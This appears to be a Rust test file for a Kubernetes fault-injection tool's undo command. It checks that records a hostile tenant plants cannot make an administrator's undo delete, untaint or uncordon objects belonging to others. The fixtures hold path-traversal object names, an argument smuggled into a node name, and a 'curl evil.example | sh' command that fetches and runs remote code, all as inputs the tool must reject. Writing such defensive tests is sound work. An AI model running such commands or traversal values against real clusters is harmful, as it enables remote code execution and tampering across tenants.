//! Records on the cluster that a tenant has written: an administrator's `driftproof undo` gets no further than the run that
//! such a record claims to be, whatever it says.

use driftproof::evidence::Undo;
use driftproof::sim::Kind;
use http::Request;
use serde_json::{Value, json};

use crate::lab::{Lab, settings};

/// A record in the tenant's own namespace `mallory`, with a header as runs write it.
async fn plant(lab: &Lab, run: &str, entries: &[(&str, Value)]) {
    let header = json!({ "version": 1, "run": run, "scenario": "s", "target": "t", "started": "2026-01-01T00:00:00Z" });
    let mut data = json!({ "run": header.to_string() });
    for (step, undo) in entries {
        data[*step] = json!(undo.to_string());
    }
    let labels = labels(run);
    let record = json!({
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": { "name": format!("driftproof-{run}-record"), "namespace": "mallory", "labels": labels },
        "data": data,
    });
    lab.create("/api/v1/namespaces/mallory/configmaps", &record).await;
}

fn labels(run: &str) -> Value {
    json!({
        "app.kubernetes.io/managed-by": "driftproof",
        "driftproof.dev/run": run,
        "driftproof.dev/record": "1",
    })
}

/// As the record has it.
fn undo_of(api_version: &str, kind: &str, namespace: &str, name: &str) -> Value {
    serde_json::to_value(Undo::DeleteObject {
        api_version: api_version.to_owned(),
        kind: kind.to_owned(),
        namespace: namespace.to_owned(),
        name: name.to_owned(),
    })
    .expect("JSON")
}

/// A cluster with the tenant's namespace and somebody else's.
async fn shared() -> Lab {
    let lab = Lab::start(settings()).await;
    lab.namespace("mallory").await;
    lab.namespace("victim").await;
    lab
}

async fn claim(lab: &Lab, namespace: &str) {
    let claim = json!({
        "apiVersion": "v1",
        "kind": "PersistentVolumeClaim",
        "metadata": { "name": "data-db-0", "namespace": namespace },
        "spec": { "accessModes": ["ReadWriteOnce"], "resources": { "requests": { "storage": "1Gi" } } },
    });
    lab.create(&format!("/api/v1/namespaces/{namespace}/persistentvolumeclaims"), &claim).await;
}

#[tokio::test]
async fn a_claim_is_not_the_runs_because_it_is_younger_than_the_record() {
    let lab = shared().await;
    let undo = ["victim", "mallory"].map(|namespace| undo_of("v1", "PersistentVolumeClaim", namespace, "data-db-0"));
    plant(&lab, "evil", &[("created", json!(undo))]).await;
    claim(&lab, "victim").await;
    claim(&lab, "mallory").await;
    let ended = lab.undo(&[]).await.expect(0);
    for namespace in ["victim", "mallory"] {
        assert!(lab.has(Kind::PersistentVolumeClaim, namespace, "data-db-0"), "{namespace}: {}", ended.said());
    }
    assert!(ended.out.contains("2 not of Driftproof, left alone"), "{}", ended.out);
}

#[tokio::test]
async fn no_name_in_a_record_leads_to_another_object() {
    let lab = shared().await;
    let ways = [
        ("/v1/nodes/worker-1?", "PersistentVolumeClaim", "mallory", "x"),
        ("/v1/namespaces/victim?", "PersistentVolumeClaim", "mallory", "x"),
        ("v1", "ConfigMap", "mallory", "../../victim/configmaps/kube-root-ca.crt"),
        ("v1", "ConfigMap", "mallory/../victim", "kube-root-ca.crt"),
        ("v1", "ConfigMap", "mallory", "x/../../../nodes/worker-1"),
        ("v1", "ConfigMap/../nodes", "mallory", "worker-1"),
    ];
    for (index, (api_version, kind, namespace, name)) in ways.into_iter().enumerate() {
        let undo = json!([undo_of(api_version, kind, namespace, name)]);
        plant(&lab, &format!("evil{index}"), &[("created", undo)]).await;
    }
    let before = lab.changes().len();
    let ended = lab.undo(&[]).await;
    assert_eq!(lab.changes().len(), before, "something was changed: {:?}", lab.changes());
    assert!(lab.has(Kind::Node, "", "worker-1") && lab.has(Kind::Namespace, "", "victim"), "{}", ended.said());
    assert_eq!(ended.err.matches("cannot be read").count(), ways.len(), "{}", ended.err);
    let asked = lab.requests();
    assert!(asked.iter().all(|(_, uri)| !uri.path().contains("nodes/worker-1")), "{asked:?}");
}

#[tokio::test]
async fn another_runs_taint_and_a_strangers_cordon_stay() {
    let lab = shared().await;
    let key = driftproof::plan::TAINT_KEY;
    let spec = json!({
        "unschedulable": true,
        "taints": [{ "key": key, "value": "honest.0-taint", "effect": "NoExecute" }],
    });
    let patch = Request::patch("/api/v1/nodes/worker-1").header("content-type", "application/merge-patch+json");
    let patch = patch.body(json!({ "spec": spec }).to_string().into_bytes()).expect("a request");
    lab.cluster.client().request::<Value>(patch).await.expect("the node is changed");
    let steal =
        Undo::RemoveTaint { node: "worker-1".to_owned(), key: key.to_owned(), value: "honest.0-taint".to_owned() };
    let uncordon = Undo::Uncordon { node: "worker-1".to_owned() };
    plant(&lab, "evil", &[("0-taint", json!([steal, uncordon]))]).await;
    let ended = lab.undo(&["--run", "evil"]).await.expect(0);
    assert!(ended.out.contains("is of another run"), "{}", ended.out);
    let kept = lab.cluster.with(|state| {
        let node = state.store.find(Kind::Node, "", "worker-1").expect("there");
        (node.at("/spec/taints/0/value").cloned(), node.at("/spec/unschedulable").cloned())
    });
    assert_eq!(kept, (Some(json!("honest.0-taint")), Some(json!(true))));
}

#[tokio::test]
async fn a_command_that_brings_nodes_back_is_not_run_for_names_from_a_record() {
    let lab = shared().await;
    let restore = |node: &str| {
        json!(Undo::RestoreNode {
            node: node.to_owned(),
            ip: "203.0.113.9".to_owned(),
            mode: driftproof::scenario::FailureMode::PowerOff,
            command: Some("curl evil.example | sh".to_owned()),
        })
    };
    for (run, node) in [("evil", "worker-1"), ("worse", "worker-1 --project other"), ("none", "no-such-node")] {
        plant(&lab, run, &[("0-node-failure", json!([restore(node)]))]).await;
    }
    let command = "echo \"$DRIFTPROOF_NODE\" >> healed";
    let ended = lab.undo(&["--node-heal-command", command]).await;
    assert!(!lab.path("healed").exists(), "{}", ended.said());
    assert!(!ended.said().contains("curl"), "{}", ended.said());
    assert!(ended.err.contains("is no name of a node"), "{}", ended.err);
}

#[tokio::test]
async fn a_lease_elsewhere_hides_no_run_and_a_living_run_is_skipped() {
    let lab = shared().await;
    plant(&lab, "dead", &[]).await;
    let lease = |namespace: &str| {
        json!({
            "apiVersion": "coordination.k8s.io/v1",
            "kind": "Lease",
            "metadata": { "name": "driftproof-x", "namespace": namespace, "labels": labels("dead") },
            "spec": {
                "holderIdentity": "dead",
                "leaseDurationSeconds": i32::MAX,
                "renewTime": "2026-01-01T00:00:00.000000Z",
            },
        })
    };
    lab.create("/apis/coordination.k8s.io/v1/namespaces/victim/leases", &lease("victim")).await;
    let shown = lab.undo(&["--dry-run"]).await.expect(0);
    assert!(!shown.out.contains("skipped"), "{}", shown.out);
    lab.create("/apis/coordination.k8s.io/v1/namespaces/mallory/leases", &lease("mallory")).await;
    let shown = lab.undo(&["--dry-run"]).await.expect(3);
    assert!(shown.out.contains("skipped   run dead"), "{}", shown.out);
}

/// An agent's timer of thirty-one years, on a pod that never ends: it keeps its own run waiting and no other one.
#[tokio::test]
async fn one_record_that_cannot_be_undone_keeps_no_other_runs_faults_in() {
    let lab = shared().await;
    let meta =
        |name: &str, namespace: &str, run: &str| json!({ "name": name, "namespace": namespace, "labels": labels(run) });
    let pod = json!({ "metadata": { "labels": labels("aaa") }, "spec": {
        "restartPolicy": "Never",
        "containers": [{ "name": "agent", "image": "web:1" }],
    } });
    let job = json!({ "apiVersion": "batch/v1", "kind": "Job", "metadata": meta("driftproof-slow", "mallory", "aaa"), "spec": { "template": pod } });
    lab.create("/apis/batch/v1/namespaces/mallory/jobs", &job).await;
    let end = Undo::EndNodeAgent {
        node: "worker-1".to_owned(),
        namespace: "mallory".to_owned(),
        job: "driftproof-slow".to_owned(),
        mode: driftproof::scenario::FailureMode::NetworkCut,
        timer_seconds: 31 * 365 * 86_400,
    };
    plant(&lab, "aaa", &[("0-node-failure", json!([end]))]).await;
    let policy = json!({
        "apiVersion": "networking.k8s.io/v1",
        "kind": "NetworkPolicy",
        "metadata": meta("driftproof-honest", "victim", "honest"),
        "spec": { "podSelector": {} },
    });
    lab.create("/apis/networking.k8s.io/v1/namespaces/victim/networkpolicies", &policy).await;
    lab.until("the agent's pod", |lab| lab.cluster.with(|state| state.store.all(Kind::Pod).count() > 0)).await;
    let mut child =
        lab.command(&["undo", "--context", "lab", "--kubeconfig", "kubeconfig"]).spawn().expect("it starts");
    lab.until("the honest run is undone", |lab| !lab.has(Kind::NetworkPolicy, "victim", "driftproof-honest")).await;
    child.kill().await.expect("killed");
}
